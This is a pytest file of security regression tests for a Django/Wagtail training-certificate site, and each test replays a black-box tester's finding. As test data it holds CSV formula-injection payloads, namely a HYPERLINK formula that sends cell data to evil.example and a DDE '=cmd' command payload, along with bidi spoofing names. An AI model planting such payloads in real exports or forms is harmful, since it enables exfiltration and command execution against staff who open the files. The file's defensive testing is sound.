"""SECURITY.md, "Found by black-box testing of this site (December 2026)".

One test (or a few) per finding, named for it, each replaying what the tester did.
"""

import csv
import io
import statistics
import threading
import time
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from allauth.account.models import EmailAddress
from django.contrib.auth.hashers import PBKDF2PasswordHasher
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import OperationalError, connections, transaction
from django.test import Client
from django.utils import timezone
from PIL import Image as PILImage
from wagtail.contrib.forms.models import FormSubmission
from wagtail.images.models import Image

from accounts.models import User
from quizzes.models import Attempt
from tests.factories import DEFAULT_PASSWORD, enrol_totp, make_user
from tests.quizzes.builders import answer_key, make_quiz, make_quiz_module
from tests.training.certificates.builders import (
    complete_module,
    issue,
    make_certificate_module,
    make_trainer,
)
from training.models import LessonCompletion

TRAINING_REQUEST = {
    "organisation": "Durfee High School",
    "audience": "Providers",
    "number_of_participants": "40",
    "preferred_dates": "Any Tuesday in March",
    "contact_name": "Pat Principal",
    "contact_email": "pat@example.org",
}


def start(client, module, purpose="final"):
    return client.post(f"/quizzes/start/{module.pk}/{purpose}/")


def finish_lessons(client, module):
    for lesson in module.lessons():
        client.post(lesson.url)


# ---------- 1. Forged quiz purpose ----------


@pytest.mark.parametrize("purpose", ["p0", "p1", "FINAL", "x" * 300])
def test_forged_quiz_purpose_is_not_found(client, home, purpose):
    module = make_quiz_module(audience="youth", questions=2)
    finish_lessons(client, module)
    assert start(client, module, purpose).status_code == 404
    assert not Attempt.objects.exists()


def test_forged_quiz_purpose_every_attempt_counts_towards_the_limit(client, home):
    from training.models import TrainingModulePage

    module = make_quiz_module(audience="youth", questions=2, max_attempts=1)
    # The admin refuses a pre-test that is the final quiz; here, the worst case.
    TrainingModulePage.objects.filter(pk=module.pk).update(pretest=module.quiz)
    finish_lessons(client, module)
    start(client, module, "pretest")
    pretest = Attempt.objects.get(purpose="pretest")
    client.post(f"/quizzes/attempts/{pretest.public_id}/", answer_key(pretest))

    response = start(client, module, "final")
    assert response.status_code == 302 and response["Location"] == module.url
    assert not Attempt.objects.filter(purpose="final").exists()


def test_forged_quiz_purpose_a_pretest_cannot_be_the_final_quiz(home):
    from django.core.exceptions import ValidationError

    module = make_quiz_module(questions=2)
    module.pretest = module.quiz
    with pytest.raises(ValidationError, match="different quiz"):
        module.full_clean()


def test_forged_quiz_purpose_a_pretest_obeys_its_quizs_review_policy(client, home):
    module = make_quiz_module(audience="youth", questions=2)
    module.pretest = make_quiz(questions=2, review_policy="never")
    module.save_revision().publish()
    response = start(client, module, "pretest")
    attempt = Attempt.objects.get(purpose="pretest")
    client.post(f"/quizzes/attempts/{attempt.public_id}/", answer_key(attempt))
    html = client.get(f"/quizzes/attempts/{attempt.public_id}/result/").content.decode()
    assert "(correct answer)" not in html and "Because:" not in html
    assert response.status_code == 302


# ---------- 2. A verifiable CE certificate without reading or knowing ----------


def test_certificate_without_learning_the_quiz_waits_for_every_lesson(client, home):
    module = make_certificate_module(lessons=3)
    response = start(client, module)
    assert response["Location"] == module.url
    assert not Attempt.objects.exists()
    html = client.get(module.url).content.decode()
    assert "The quiz opens when you have finished every lesson." in html


def test_certificate_without_learning_needs_the_minimum_time_in_lessons(client, home):
    module = make_certificate_module(
        lessons=2, estimated_minutes=20, min_lesson_minutes=10
    )
    lessons = list(module.lessons())
    # Six bare POSTs, as the tester sent: finished, but no time in the lessons.
    finish_lessons(client, module)
    assert start(client, module)["Location"] == module.url
    assert not Attempt.objects.exists()
    assert "about 10 more to go" in client.get(module.url).content.decode()

    # Reading counts, measured from when the server sent each lesson.
    now = timezone.now()
    for minutes, lesson in enumerate(lessons):
        with time_machine.travel(now + timedelta(minutes=10 * minutes), tick=False):
            client.get(lesson.url)
        with time_machine.travel(now + timedelta(minutes=10 * minutes + 6)):
            client.post(lesson.url)
    assert sorted(LessonCompletion.objects.values_list("seconds_spent", flat=True)) == [
        360,
        360,
    ]
    with time_machine.travel(now + timedelta(minutes=30)):
        assert start(client, module)["Location"].startswith("/quizzes/attempts/")


def test_certificate_without_learning_a_reload_does_not_restart_the_clock(client, home):
    module = make_certificate_module(lessons=1, estimated_minutes=10)
    module.min_lesson_minutes = 5
    module.save_revision().publish()
    lesson = module.lessons().first()
    now = timezone.now()
    with time_machine.travel(now, tick=False):
        client.get(lesson.url)
    with time_machine.travel(now + timedelta(minutes=4), tick=False):
        client.get(lesson.url)  # reloaded: the visit started at the first view
    with time_machine.travel(now + timedelta(minutes=5), tick=False):
        client.post(lesson.url)
        client.post(lesson.url)  # a double click counts the visit once
    assert LessonCompletion.objects.get().seconds_spent == 300


def test_certificate_without_learning_the_provider_quiz_is_a_drawn_shuffled_pool():
    import yaml

    from quizzes.gift.parser import parse_gift
    from training.curriculum_loader import CURRICULUM_DIR

    module = yaml.safe_load(
        (CURRICULUM_DIR / "providers-csec-mandated-reporting.yaml").read_text("utf-8")
    )
    quiz = module["quiz"]
    pool = parse_gift((CURRICULUM_DIR / quiz["file"]).read_text("utf-8"))
    assert quiz["shuffle"] is True
    assert 0 < quiz["draw_count"] < len(pool)
    assert quiz["review_policy"] == "after_passing"
    assert module["min_lesson_minutes"] * 2 == module["estimated_minutes"]


def test_certificate_without_learning_answers_show_only_after_a_pass(client, home):
    module = make_quiz_module(questions=3, review_policy="after_passing")
    finish_lessons(client, module)
    start(client, module)
    attempt = Attempt.objects.get()
    wrong = {
        f"question-{q['id']}": [str(c["id"]) for c in q["choices"] if not c["correct"]]
        for q in attempt.questions
    }
    client.post(f"/quizzes/attempts/{attempt.public_id}/", wrong)
    html = client.get(f"/quizzes/attempts/{attempt.public_id}/result/").content.decode()
    assert "(correct answer)" not in html and "Because:" not in html
    assert "The correct answers and explanations are shown once you pass." in html


def fail_once(client, module) -> None:
    start(client, module)
    attempt = Attempt.objects.filter(submitted_at=None).get()
    wrong = {
        f"question-{q['id']}": [str(c["id"]) for c in q["choices"] if not c["correct"]]
        for q in attempt.questions
    }
    client.post(f"/quizzes/attempts/{attempt.public_id}/", wrong)


def test_certificate_without_learning_three_failures_mean_a_wait(client, home):
    module = make_quiz_module(questions=2)  # cool-down after 3, for 24 hours
    finish_lessons(client, module)
    now = timezone.now()
    for hour in range(3):
        with time_machine.travel(now + timedelta(hours=hour), tick=False):
            fail_once(client, module)

    with time_machine.travel(now + timedelta(hours=3), tick=False):
        response = start(client, module)
        assert response["Location"] == module.url
        assert "you can try again from" in client.get(module.url).content.decode()
        last = Attempt.objects.latest("submitted_at")
        result = client.get(f"/quizzes/attempts/{last.public_id}/result/")
        assert "Try again" not in result.content.decode()
    assert Attempt.objects.count() == 3

    # A day after the third failure, three more tries; then a wait again.
    later = now + timedelta(hours=2, days=1, minutes=1)
    for hour in range(3):
        with time_machine.travel(later + timedelta(hours=hour), tick=False):
            fail_once(client, module)
    with time_machine.travel(later + timedelta(hours=4), tick=False):
        assert start(client, module)["Location"] == module.url
    assert Attempt.objects.count() == 6


def test_certificate_without_learning_the_wait_is_configurable(client, home):
    module = make_quiz_module(questions=1, cooldown_after_failures=0)
    finish_lessons(client, module)
    for _ in range(4):
        fail_once(client, module)
    assert Attempt.objects.filter(passed=False).count() == 4


# ---------- 3. Signup reveals existing accounts by timing ----------


class TenThousandRoundsHasher(PBKDF2PasswordHasher):
    """Real PBKDF2, fewer rounds: the hash must dominate, the test stay quick."""

    iterations = 10_000


def signup_seconds(client, email: str) -> float:
    started = time.perf_counter()
    response = client.post(
        "/accounts/signup/",
        {
            "name": "Sam Timing",
            "email": email,
            "password1": DEFAULT_PASSWORD,
            "password2": DEFAULT_PASSWORD,
        },
    )
    elapsed = time.perf_counter() - started
    assert response.status_code == 302
    client.cookies.clear()
    return elapsed


def test_signup_timing_known_and_new_emails_take_comparable_time(
    client, home, settings
):
    settings.PASSWORD_HASHERS = [
        "tests.security.test_black_box_findings.TenThousandRoundsHasher"
    ]
    make_user(email="known@example.org")
    signup_seconds(client, "warm-up@example.org")
    known = [signup_seconds(client, "known@example.org") for _ in range(5)]
    new = [signup_seconds(client, f"new{n}@example.org") for n in range(5)]
    ratio = statistics.median(known) / statistics.median(new)
    # Before the fix the known address answered 30 times faster (0.02 s vs 0.60 s).
    assert 0.5 < ratio < 2, (
        f"known {statistics.median(known):.3f}s, new {statistics.median(new):.3f}s"
    )
    assert User.objects.filter(email="known@example.org").count() == 1


# ---------- 4. CSV formula injection ----------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_formula_injection_certificate_report(client, staff_groups):
    module = make_certificate_module()
    learner = make_user()
    complete_module(module, user=learner)
    issue(module, learner, FORMULA_NAME)
    client.force_login(make_trainer(staff_groups))
    response = client.get("/admin/reports/certificates/", {"export": "csv"})
    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["Printed name"] == "'" + FORMULA_NAME


def test_csv_formula_injection_training_request_submissions(client, staff_groups):
    from audiences.models import TrainingRequestPage

    client.post(
        "/request-training/",
        {**TRAINING_REQUEST, "contact_phone": "=cmd|' /C calc'!A0"},
    )
    page = TrainingRequestPage.objects.get()
    client.force_login(make_trainer(staff_groups))
    response = client.get(f"/admin/forms/submissions/{page.pk}/", {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    [row] = csv.DictReader(io.StringIO(content))
    assert row["Contact phone"] == "'=cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_formula_injection_every_dangerous_start_is_neutralised(start):
    from config.spreadsheets import neutralise_formula

    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"
    assert neutralise_formula("Ana Alvarez") == "Ana Alvarez"
    assert neutralise_formula(Decimal("1.5")) == Decimal("1.5")


# ---------- 5. Unauthenticated 500s ----------


@pytest.mark.parametrize("query", ['"', "\x00", 'a"b', "NEAR(", "*"])
def test_hostile_input_search_syntax_is_not_a_500(client, home, query):
    assert client.get("/search/", {"q": query}).status_code in (200, 400)


@pytest.mark.parametrize(
    "url",
    [
        "/certificates/claim/99999999999999999999/",
        "/quizzes/start/99999999999999999999/final/",
    ],
)
def test_hostile_input_huge_ids_are_not_found(client, home, url):
    assert client.post(url).status_code == 404
    assert client.get(url).status_code in (404, 405)


def test_hostile_input_huge_filter_id_in_the_admin_report(client, staff_groups):
    client.force_login(make_trainer(staff_groups))
    response = client.get(
        "/admin/reports/certificates/", {"module": "99999999999999999999"}
    )
    assert response.status_code == 200


def contended_write(tmp_path, options: dict) -> list[str]:
    """Two connections write one SQLite file at once; the errors they meet."""
    connections.settings["contended"] = {
        **connections.settings["default"],
        "NAME": str(tmp_path / "contended.sqlite3"),
        "OPTIONS": options,
        "TEST": {},
    }
    errors, holding = [], threading.Event()

    def writer(hold: bool):
        connection = connections["contended"]
        try:
            with transaction.atomic(using="contended"):
                connection.cursor().execute("INSERT INTO counter VALUES (1)")
                if hold:
                    holding.set()
                    # Keep the write lock while the other writer arrives.
                    time.sleep(0.3)
        except OperationalError as error:
            errors.append(str(error))
        finally:
            connection.close()

    setup = connections["contended"]
    setup.cursor().execute("CREATE TABLE IF NOT EXISTS counter (n integer)")
    setup.close()
    first = threading.Thread(target=writer, args=(True,))
    first.start()
    holding.wait(5)
    second = threading.Thread(target=writer, args=(False,))
    second.start()
    first.join()
    second.join()
    del connections.settings["contended"]
    return errors


@pytest.mark.skipif(
    "sqlite" not in connections.settings["default"]["ENGINE"],
    reason="SQLite's locking only; PostgreSQL has row locks (tests/quizzes)",
)
def test_hostile_input_concurrent_sqlite_writes_wait_instead_of_failing(
    tmp_path, settings, django_db_blocker
):
    with django_db_blocker.unblock():
        # Without the settings, the second writer fails at once: the 500 seen.
        assert contended_write(tmp_path, {"timeout": 0}) == ["database is locked"]
        options = settings.DATABASES["default"]["OPTIONS"]
        assert contended_write(tmp_path, options) == []


# ---------- 6. Email squatting ----------


def test_email_squatting_an_unverified_secondary_address_never_blocks_its_owner(
    client, home
):
    squatter = make_user(email="squatter@example.org", name="Sly Squatter")
    EmailAddress.objects.create(
        user=squatter, email="owner@example.org", verified=False, primary=False
    )
    response = client.post(
        "/accounts/signup/",
        {
            "name": "Olive Owner",
            "email": "owner@example.org",
            "password1": DEFAULT_PASSWORD,
            "password2": DEFAULT_PASSWORD,
        },
    )
    assert response.status_code == 302
    owner = User.objects.get(email="owner@example.org")
    assert owner.name == "Olive Owner"
    assert not squatter.emailaddress_set.filter(email="owner@example.org").exists()
    [message] = mail.outbox
    assert message.to == ["owner@example.org"]
    assert "Squatter" not in message.body and "squatter" not in message.body


def test_email_squatting_a_password_reset_names_no_one(client, home):
    make_user(email="owner@example.org", name="Olive Owner", username="olive")
    client.post("/accounts/password/reset/", {"email": "owner@example.org"})
    [message] = mail.outbox
    assert "olive" not in message.body.lower()


# ---------- 7. Lessons of an unpublished module stay live ----------


def test_live_children_of_an_unpublished_page_are_not_served(client, home):
    module = make_quiz_module(audience="youth", questions=1, lessons=2)
    lesson = module.lessons().first()
    module.unpublish()
    assert client.get(lesson.url).status_code == 404
    assert client.post(lesson.url).status_code == 404
    assert not LessonCompletion.objects.exists()
    assert start(client, module).status_code == 404
    search = client.get("/search/", {"q": "Lesson"}).content.decode()
    assert lesson.url not in search


# ---------- 8. Staff MFA only under /admin/ ----------


def test_staff_rights_outside_the_admin_need_the_second_factor(client, staff_groups):
    module = make_certificate_module()
    learner = make_user()
    complete_module(module, user=learner)
    certificate = issue(module, learner, "Lee Learner")
    trainer = make_user(groups=[staff_groups["CAC trainers"]])
    client.force_login(trainer)
    download = f"/certificates/{certificate.code}/download/"
    assert client.get(download).status_code == 404

    enrol_totp(trainer)
    assert client.get(download).status_code == 200


# ---------- 9. Login lockout of a victim ----------


def test_victim_lockout_failures_elsewhere_do_not_lock_the_owner_out(home):
    make_user(email="victim@example.org")
    attacker = Client(REMOTE_ADDR="198.51.100.7")
    for n in range(6):
        attacker.post(
            "/accounts/login/",
            {"login": "victim@example.org", "password": f"guess-{n}"},
        )
    blocked = attacker.post(
        "/accounts/login/", {"login": "victim@example.org", "password": "guess-7"}
    )
    assert blocked.status_code == 429

    owner = Client(REMOTE_ADDR="203.0.113.20")
    response = owner.post(
        "/accounts/login/",
        {"login": "victim@example.org", "password": DEFAULT_PASSWORD},
    )
    assert response.status_code == 302
    assert "_auth_user_id" in owner.session


# ---------- 10. Name display spoofing ----------

SPOOFED = "Frank \u202eredivorP\u202c Smith"


@pytest.mark.parametrize(
    "name", [SPOOFED, "Ann\u200bSmith", "Bob\u2066Lee\u2069", "Eve\u061cSmith"]
)
def test_bidi_and_invisible_characters_are_refused_in_printed_names(client, home, name):
    module = make_certificate_module()
    learner = make_user()
    complete_module(module, user=learner)
    client.force_login(learner)
    response = client.post(f"/certificates/claim/{module.pk}/", {"printed_name": name})
    assert response.status_code == 400
    assert "invisible or text-direction characters" in response.content.decode()
    assert not learner.certificates.exists()


def test_bidi_and_invisible_characters_are_refused_in_the_signup_name(client, home):
    response = client.post(
        "/accounts/signup/",
        {
            "name": SPOOFED,
            "email": "frank@example.org",
            "password1": DEFAULT_PASSWORD,
            "password2": DEFAULT_PASSWORD,
        },
    )
    assert response.status_code == 200
    assert "invisible or text-direction characters" in response.content.decode()
    assert not User.objects.filter(email="frank@example.org").exists()


def test_names_in_other_scripts_are_welcome(client, home):
    module = make_certificate_module()
    learner = make_user()
    complete_module(module, user=learner)
    client.force_login(learner)
    for name in ("José Ñúñez", "João Conceição", "محمد علي", "Zoë O'Brien-Smith"):
        response = client.post(
            f"/certificates/claim/{module.pk}/", {"printed_name": name}
        )
        assert response.status_code == 302, name
        learner.certificates.all().delete()


# ---------- 11. No throttle on the training request form ----------


def test_form_spam_the_request_form_is_rate_limited(client, home):
    statuses = [
        client.post("/request-training/", TRAINING_REQUEST).status_code
        for _ in range(6)
    ]
    assert statuses == [200] * 5 + [429]
    assert FormSubmission.objects.count() == 5
    assert len(mail.outbox) == 5
    over = client.post("/request-training/", TRAINING_REQUEST).content.decode()
    assert "several requests in the last hour" in over
    elsewhere = Client(REMOTE_ADDR="203.0.113.30")
    assert elsewhere.post("/request-training/", TRAINING_REQUEST).status_code == 200


def test_form_spam_the_honeypot_stores_and_sends_nothing(client, home):
    html = client.get("/request-training/").content.decode()
    assert 'name="website_address"' in html and 'tabindex="-1"' in html
    response = client.post(
        "/request-training/", {**TRAINING_REQUEST, "website_address": "http://x.test"}
    )
    assert response.status_code == 200
    assert "Thank you" in response.content.decode()
    assert not FormSubmission.objects.exists() and not mail.outbox


def test_form_spam_invalid_attempts_do_not_use_up_the_limit(client, home):
    for _ in range(6):
        client.post("/request-training/", {**TRAINING_REQUEST, "organisation": ""})
    assert client.post("/request-training/", TRAINING_REQUEST).status_code == 200
    submission = FormSubmission.objects.get()
    assert "website_address" not in submission.get_data()


# ---------- 12. Trainer-side denial of service ----------


def animated_gif(*, size: int, frames: int) -> bytes:
    images = [
        PILImage.new("RGB", (size, size), (index * 10 % 256, 0, 0))
        for index in range(frames)
    ]
    buffer = io.BytesIO()
    images[0].save(buffer, "GIF", save_all=True, append_images=images[1:])
    return buffer.getvalue()


def test_trainer_dos_pixels_are_counted_across_animation_frames(
    client, staff_groups, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 100 * 100 * 3
    client.force_login(make_trainer(staff_groups))

    def upload(content):
        return client.post(
            "/admin/images/add/",
            {"title": "gif", "file": SimpleUploadedFile("a.gif", content, "image/gif")},
        )

    response = upload(animated_gif(size=100, frames=5))
    assert response.status_code == 200
    assert "50,000 pixels across its frames" in response.content.decode()
    assert not Image.objects.exists()
    assert upload(animated_gif(size=100, frames=2)).status_code == 302


# ---------- 13. /django-admin/ loops a learner ----------


def test_django_admin_is_not_served_to_a_signed_in_learner(client, home):
    client.force_login(make_user())
    response = client.get("/django-admin/", follow=True)
    assert response.status_code == 404
    assert len(response.redirect_chain) == 0
